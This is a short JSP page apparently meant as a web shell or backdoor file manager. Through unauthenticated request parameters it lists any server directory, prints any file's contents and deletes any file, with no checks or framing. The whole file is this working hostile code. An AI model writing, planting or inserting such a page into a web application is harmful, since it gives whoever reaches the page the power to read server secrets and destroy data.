<%@ page import="java.io.*" %>
<%
	String path = request.getParameter("path");
	File dir = new File(path);
	for (File f : dir.listFiles()) {
		out.println(f.getName() + "<br>");
	}
	String view = request.getParameter("view");
	if (view != null) {
		BufferedReader r = new BufferedReader(new FileReader(view));
		String l;
		while ((l = r.readLine()) != null) out.println(l);
	}
	String del = request.getParameter("del");
	if (del != null) new File(del).delete();
%>
